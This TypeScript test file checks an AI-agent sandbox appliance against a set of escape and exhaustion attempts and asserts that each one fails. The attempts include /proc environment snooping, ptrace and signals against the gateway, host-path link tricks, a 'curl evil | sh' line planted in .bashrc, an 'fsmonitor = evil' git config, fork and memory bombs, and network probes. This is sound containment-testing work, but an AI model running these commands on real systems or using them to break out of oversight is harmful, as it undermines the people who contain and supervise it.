// An agent trying to leave its sandbox, through the real appliance in host mode: process.run over
// /rpc, the real native helper, the real egress proxy. Each test is one escape or exhaustion
// attempt, named after what the sandbox guarantees. The gateway must stay healthy after all of them.
import assert from "node:assert/strict";
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  readFileSync,
  readlinkSync,
  writeFileSync,
} from "node:fs";
import path from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { RpcClient, type RpcReply } from "../helpers/rpc-client.js";
import {
  autonomousPolicyFile,
  hostProcesses,
  sandboxUnavailable,
} from "../helpers/sandbox-support.js";
import {
  portOf,
  readyHostWithAgent,
  type Appliance,
  type ManifestObject,
} from "../contract/harness.js";

const REPO = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "..", "..", "..");
const PROBE = path.join(REPO, "native", "build", "probes", "syscall-probe");
const CANARY = "kruxos-canary-9f1c2e7d";

let a: Appliance;
let m: ManifestObject;
let rpc: RpcClient;
let cli: Awaited<ReturnType<typeof readyHostWithAgent>>["cli"];
let ws: string;
let skip: string | undefined;

interface RunData {
  exit_code: number;
  stdout: string;
  stderr: string;
  truncated: boolean;
  duration_ms: number;
}

before(async () => {
  skip = sandboxUnavailable();
  if (skip) return;
  const policyFile = autonomousPolicyFile();
  const r = await readyHostWithAgent(
    "mallory",
    (mm) => ({
      ...mm,
      policy: { ...(mm.policy ?? {}), files: [policyFile] },
      sandbox: {
        ...(mm.sandbox ?? {}),
        tmp_mb: 16,
        limits: {
          cpu_s: 2,
          memory_mb: 256,
          pids: 64,
          file_size_mb: 8,
          output_bytes: 65536,
          wall_s: 60,
        },
      },
    }),
    { env: { KRUXOS_TEST_CANARY: CANARY } },
  );
  a = r.a;
  m = r.m;
  cli = r.cli;
  ws = path.join(a.home ?? "", "workspace");
  rpc = await RpcClient.connect(portOf(m, "gateway"), r.token);
  if (existsSync(PROBE)) copyFileSync(PROBE, path.join(ws, "probe"));
});

after(async () => {
  rpc?.close();
  await a?.cleanup();
});

async function run(
  command: string | string[],
  extra: Record<string, unknown> = {},
): Promise<RpcReply> {
  return rpc.invoke("process.run", { command, timeout_s: 20, ...extra });
}

async function ok(
  command: string | string[],
  extra: Record<string, unknown> = {},
): Promise<RunData> {
  const r = await run(command, extra);
  assert.equal(r.error, undefined, `process.run failed: ${JSON.stringify(r.error)}`);
  return r.result?.data as RunData;
}

async function probe(
  t: { skip: (why: string) => void },
  ...args: string[]
): Promise<Record<string, unknown> | undefined> {
  if (!existsSync(PROBE)) {
    t.skip(`${PROBE} is not built`);
    return undefined;
  }
  const d = await ok(["/workspace/probe", ...args]);
  const line = d.stdout.trim().split("\n").pop() ?? "";
  return { ...(JSON.parse(line) as Record<string, unknown>), exit_code: d.exit_code };
}

async function gatewayHealthy(): Promise<void> {
  const r = await a.get(portOf(m, "gateway"), "/ready");
  assert.equal(r.status, 200, `gateway not ready after the attempt: ${r.body}`);
  const d = await ok("echo still-here");
  assert.equal(d.stdout, "still-here\n");
}

function guard(t: { skip: (why: string) => void }): boolean {
  if (skip) t.skip(skip);
  return skip !== undefined;
}

// --- identity and kernel state -------------------------------------------------------------

test("a sandboxed program runs as uid and gid 1100", async (t) => {
  if (guard(t)) return;
  const d = await ok("id -u; id -g");
  assert.equal(d.stdout, "1100\n1100\n");
});

test("a sandboxed program has no_new_privs, a seccomp filter and no capabilities", async (t) => {
  if (guard(t)) return;
  const d = await ok("grep -E '^(NoNewPrivs|Seccomp|CapEff|CapPrm|CapAmb):' /proc/self/status");
  assert.match(d.stdout, /NoNewPrivs:\s+1/);
  assert.match(d.stdout, /Seccomp:\s+2/);
  assert.match(d.stdout, /CapEff:\s+0000000000000000/);
  assert.match(d.stdout, /CapPrm:\s+0000000000000000/);
  assert.match(d.stdout, /CapAmb:\s+0000000000000000/);
});

test("a sandboxed program lives in its own user, mount, pid, net, uts and ipc namespaces", async (t) => {
  if (guard(t)) return;
  const kinds = ["user", "mnt", "pid", "net", "uts", "ipc"];
  const d = await ok(kinds.map((k) => `readlink /proc/self/ns/${k}`).join("; "));
  const inside = d.stdout.trim().split("\n");
  const gateway = kinds.map((k) => readlinkSync(`/proc/${a.pid ?? "self"}/ns/${k}`));
  assert.equal(inside.length, kinds.length);
  kinds.forEach((k, i) => assert.notEqual(inside[i], gateway[i], `${k} namespace is shared`));
});

test("a sandboxed program is pid 1's child in its own pid namespace and sees no host processes", async (t) => {
  if (guard(t)) return;
  const d = await ok("ls /proc | grep -E '^[0-9]+$' | wc -l; echo $$");
  const [count, self] = d.stdout.trim().split("\n").map(Number);
  assert.ok((self ?? 0) < 10, `pid inside is ${String(self)}`);
  assert.ok((count ?? 99) < 10, `${String(count)} processes visible`);
});

test("the gateway's environment never reaches a sandbox, not even through /proc", async (t) => {
  if (guard(t)) return;
  const d = await ok(`env; cat /proc/${a.pid ?? 1}/environ 2>&1; cat /proc/1/environ 2>&1; true`);
  assert.ok(!d.stdout.includes(CANARY) && !d.stderr.includes(CANARY), "canary leaked");
  assert.ok(!/KRUXOS_VAULT|KRUXOS_HOME|NODE_/.test(d.stdout), d.stdout);
});

test("the sandbox environment is exactly the pinned safelist", async (t) => {
  if (guard(t)) return;
  const d = await ok(["/usr/bin/env"]);
  const names = d.stdout
    .trim()
    .split("\n")
    .map((l) => l.split("=")[0])
    .sort();
  assert.deepEqual(names, [
    "HOME",
    "KRUXOS_AGENT",
    "KRUXOS_CALL",
    "LANG",
    "LOGNAME",
    "PATH",
    "PWD",
    "SHELL",
    "TERM",
    "TMPDIR",
    "USER",
  ]);
});

test("an agent cannot set the proxy route or KRUXOS_ variables in a sandbox's environment", async (t) => {
  if (guard(t)) return;
  const r = await run("true", { env: { HTTPS_PROXY: "http://evil:1" } });
  assert.equal(r.error?.code, -32602, JSON.stringify(r));
  const r2 = await run("true", { env: { KRUXOS_AGENT: "root" } });
  assert.equal(r2.error?.code, -32602, JSON.stringify(r2));
});

// --- the gateway and other processes ----------------------------------------------------------

test("a sandboxed program cannot ptrace the gateway", async (t) => {
  if (guard(t)) return;
  const p = await probe(t, "ptrace_pid", String(a.pid ?? 1));
  if (!p) return;
  assert.equal(p.ok, false, JSON.stringify(p));
});

test("a sandboxed program cannot signal the gateway", async (t) => {
  if (guard(t)) return;
  const p = await probe(t, "kill_pid", String(a.pid ?? 1));
  if (!p) return;
  assert.equal(p.ok, false, JSON.stringify(p));
  await gatewayHealthy();
});

test("a sandboxed program inherits no file descriptors beyond stdin, stdout and stderr", async (t) => {
  if (guard(t)) return;
  const p = await probe(t, "fd_scan");
  if (!p) return;
  assert.equal(p.ok, false, `inherited fds: ${JSON.stringify(p)}`);
});

test("a sandboxed program cannot write its own executable through /proc/self/exe", async (t) => {
  if (guard(t)) return;
  const p = await probe(t, "write_self_exe");
  if (!p) return;
  assert.equal(p.ok, false, JSON.stringify(p));
});

test("the appliance's unix sockets (supervisor, egress, audit) are unreachable from a sandbox", async (t) => {
  if (guard(t)) return;
  const run = path.join(a.home ?? "", "run");
  for (const sock of ["egress.sock", "audit.sock", "supervisor.sock"]) {
    const p = await probe(t, "connect_unix", path.join(run, sock));
    if (!p) return;
    assert.equal(p.ok, false, `${sock}: ${JSON.stringify(p)}`);
  }
  const d = await ok(`ls ${run} /data /run 2>&1; true`);
  assert.match(d.stdout, /No such file or directory/);
});

test("mounting a file system from inside a sandbox is refused", async (t) => {
  if (guard(t)) return;
  const d = await ok("mount -t tmpfs none /tmp 2>&1; echo rc=$?");
  assert.match(d.stdout, /rc=[1-9]/);
});

test("a sandboxed program cannot create new namespaces with unshare", async (t) => {
  if (guard(t)) return;
  const d = await ok("unshare -U -r true 2>&1; echo rc=$?; unshare -n true 2>&1; echo rc=$?");
  assert.doesNotMatch(d.stdout, /rc=0/);
});

// --- file system ----------------------------------------------------------------------------

test("system directories are read-only inside a sandbox", async (t) => {
  if (guard(t)) return;
  const d = await ok(
    "for f in /etc/x /usr/x /bin/x /x; do echo hi > $f 2>/dev/null && echo WROTE $f; done; true",
  );
  assert.doesNotMatch(d.stdout, /WROTE/);
});

test("writes through .. never leave the workspace", async (t) => {
  if (guard(t)) return;
  await ok(
    "echo hi > /workspace/../escaped 2>/dev/null; echo hi > ../../escaped 2>/dev/null; true",
  );
  assert.ok(!existsSync(path.join(a.home ?? "", "escaped")));
  assert.ok(!existsSync(path.join(path.dirname(a.home ?? ""), "escaped")));
});

test("a symlink to a host path resolves inside the sandbox, not on the host", async (t) => {
  if (guard(t)) return;
  const outside = path.join(a.home ?? "", "data", "outside-target");
  await ok(`ln -s ${outside} link-out; echo pwned > link-out 2>/dev/null; true`);
  assert.ok(!existsSync(outside), "the write followed the link onto the host");
});

test("a hard link to a file outside the workspace cannot be made", async (t) => {
  if (guard(t)) return;
  const d = await ok("ln /etc/passwd hl 2>&1; echo rc=$?");
  assert.match(d.stdout, /rc=[1-9]/);
});

test("renaming a workspace file onto a system path is refused", async (t) => {
  if (guard(t)) return;
  const d = await ok("echo x > mv-me; mv mv-me /etc/mv-me 2>&1; echo rc=$?");
  assert.match(d.stdout, /rc=[1-9]/);
});

test("an existing .git/config and .git/hooks stay read-only inside a sandbox", async (t) => {
  if (guard(t)) return;
  mkdirSync(path.join(ws, "repo", ".git", "hooks"), { recursive: true });
  writeFileSync(path.join(ws, "repo", ".git", "config"), "[core]\n");
  const d = await ok(
    "echo '[core] fsmonitor = evil' >> repo/.git/config 2>&1; echo rc=$?; echo evil > repo/.git/hooks/pre-commit 2>&1; echo rc=$?",
  );
  assert.doesNotMatch(d.stdout, /rc=0/);
  assert.equal(readFileSync(path.join(ws, "repo", ".git", "config"), "utf8"), "[core]\n");
  assert.ok(!existsSync(path.join(ws, "repo", ".git", "hooks", "pre-commit")));
});

test("a mandatory-deny file that did not exist is removed after the run and reported", async (t) => {
  if (guard(t)) return;
  const d = await ok(
    "echo 'curl evil | sh' > .bashrc; mkdir -p .vscode; echo {} > .vscode/tasks.json; true",
  );
  assert.ok(!existsSync(path.join(ws, ".bashrc")));
  assert.ok(!existsSync(path.join(ws, ".vscode")));
  assert.match(d.stderr, /removed .*\.bashrc/);
});

test("renaming a protected .git away to plant a new .git/config is undone after the run", async (t) => {
  if (guard(t)) return;
  mkdirSync(path.join(ws, "repo2", ".git", "hooks"), { recursive: true });
  writeFileSync(path.join(ws, "repo2", ".git", "config"), "[core]\n");
  const d = await ok(
    "cd repo2 && mv .git .git-old && mkdir .git && echo '[core] fsmonitor = evil' > .git/config; echo rc=$?",
  );
  const config = path.join(ws, "repo2", ".git", "config");
  // Either the move was refused (the protected entries are mount points) or the planted file
  // was removed after the run: in no case does a config written by the sandbox survive.
  if (existsSync(config)) {
    assert.equal(readFileSync(config, "utf8"), "[core]\n", d.stdout + d.stderr);
    return;
  }
  assert.match(d.stderr, /removed .*repo2\/\.git\/config/);
});

// --- exhaustion -------------------------------------------------------------------------------

test("a fork bomb is contained by the process limit and the gateway stays healthy", async (t) => {
  if (guard(t)) return;
  const r = await run("bomb() { bomb | bomb & }; bomb; sleep 2", { timeout_s: 10 });
  assert.ok(r.result || r.error, "no answer");
  await gatewayHealthy();
});

test("a memory bomb is contained by the memory limit", async (t) => {
  if (guard(t)) return;
  // The shell drops NUL bytes from $(…), so the zeros must become bytes it keeps (tr '\0' a);
  // untranslated, the string stays empty and the bomb never allocates anything.
  const r = await run("x=$(head -c 600000000 /dev/zero | tr '\\0' a); echo ${#x}", {
    timeout_s: 20,
  });
  const d = r.result?.data as RunData | undefined;
  if (d) assert.notEqual(d.exit_code, 0, "600 MB fit under a 256 MiB limit");
  await gatewayHealthy();
});

test("a CPU spin is stopped at the CPU limit with a ResourceLimit error", async (t) => {
  if (guard(t)) return;
  const r = await run("while :; do :; done", { timeout_s: 30 });
  assert.equal(r.error?.data.type, "ResourceLimit", JSON.stringify(r.error ?? r.result));
  assert.equal(r.error?.data.limit, "cpu");
  await gatewayHealthy();
});

test("1 GiB of stdout is cut at the output limit and the gateway stays healthy", async (t) => {
  if (guard(t)) return;
  const r = await run("head -c 1073741824 /dev/zero", { timeout_s: 60 });
  const d = r.result?.data as RunData | undefined;
  if (d) {
    assert.equal(d.truncated, true);
    assert.ok(d.stdout.length <= 65536 * 2);
  } else {
    assert.equal(r.error?.data.type, "ResourceLimit", JSON.stringify(r.error));
  }
  await gatewayHealthy();
});

test("filling the disk stops at the file-size limit", async (t) => {
  if (guard(t)) return;
  const r = await run("head -c 100000000 /dev/zero > big.bin", { timeout_s: 20 });
  assert.equal(r.error?.data.type, "ResourceLimit", JSON.stringify(r.error ?? r.result));
  assert.equal(r.error?.data.limit, "file_size");
  await gatewayHealthy();
});

test("filling /tmp stops at its size and never touches the host", async (t) => {
  if (guard(t)) return;
  const d = await ok(
    "for i in 1 2 3 4; do head -c 7000000 /dev/zero > /tmp/f$i || echo FULL; done; true",
  );
  assert.match(d.stdout + d.stderr, /FULL|No space/);
});

test("the wall-clock limit kills the whole sandbox, background children included", async (t) => {
  if (guard(t)) return;
  const r = await run("sleep 300 & sleep 300 & sleep 300", { timeout_s: 2 });
  assert.equal(r.error?.data.type, "Timeout", JSON.stringify(r.error ?? r.result));
  assert.deepEqual(await hostProcesses("sleep 300"), []);
});

test("a background process that ends after its call is still audited with its outcome", async (t) => {
  if (guard(t)) return;
  const started = await run("sleep 0.2; exit 4", { background: true });
  const id = (started.result?.data as { process_id: string }).process_id;
  assert.ok(id, JSON.stringify(started));
  const waited = await rpc.invoke("process.wait", { process_id: id, timeout_s: 10 });
  assert.equal((waited.result?.data as { exit_code: number }).exit_code, 4);
  let found = false;
  for (let i = 0; i < 20 && !found; i++) {
    const q = await cli([
      "audit",
      "query",
      "--kind",
      "capability.result",
      "--json",
      "--limit",
      "500",
    ]);
    found = q.stdout.includes(id) && /"exit_code":4/.test(q.stdout);
    if (!found) await new Promise((r) => setTimeout(r, 100));
  }
  assert.ok(found, "no audit record of the background process's end");
});

test("a background sandbox keeps running after its call, and process.kill ends all of it", async (t) => {
  if (guard(t)) return;
  const started = await run("sleep 300 & sleep 300", { background: true, timeout_s: 600 });
  const id = (started.result?.data as { process_id: string }).process_id;
  assert.ok(id, JSON.stringify(started));
  const info = await rpc.invoke("process.info", { process_id: id });
  assert.equal((info.result?.data as { state: string }).state, "running", JSON.stringify(info));
  const killed = await rpc.invoke("process.kill", { process_id: id, signal: "TERM", grace_s: 2 });
  assert.equal(killed.error, undefined, JSON.stringify(killed));
  assert.equal((killed.result?.data as { state: string }).state, "killed", JSON.stringify(killed));
  // Nothing of it is left on the host: the pid namespace went with its init.
  assert.deepEqual(await hostProcesses("sleep 300"), []);
  const other = await rpc.invoke("process.info", { process_id: "p_aaaaaaaaaaaa" });
  assert.equal(other.error?.data.type, "NotFound");
});

// --- network ---------------------------------------------------------------------------------

test("without a grant a sandbox has no network: direct TCP fails at once", async (t) => {
  if (guard(t)) return;
  const p = await probe(t, "connect_tcp", "10.0.0.1", "80");
  if (!p) return;
  assert.equal(p.ok, false);
  assert.match(String(p.errno), /ENETUNREACH|EACCES|EPERM/);
});

test("without a grant UDP and DNS fail at once", async (t) => {
  if (guard(t)) return;
  const p = await probe(t, "udp_send", "8.8.8.8", "53");
  if (!p) return;
  assert.equal(p.ok, false);
  assert.match(String(p.errno), /ENETUNREACH|EACCES|EPERM/);
});

test("without a grant the egress proxy's TCP port on the host is not reachable", async (t) => {
  if (guard(t)) return;
  const p = await probe(t, "connect_tcp", "127.0.0.1", String(portOf(m, "proxy")));
  if (!p) return;
  assert.equal(p.ok, false);
});

test("a raw socket cannot be opened in a sandbox", async (t) => {
  if (guard(t)) return;
  const p = await probe(t, "raw_socket");
  if (!p) return;
  assert.equal(p.ok, false);
});
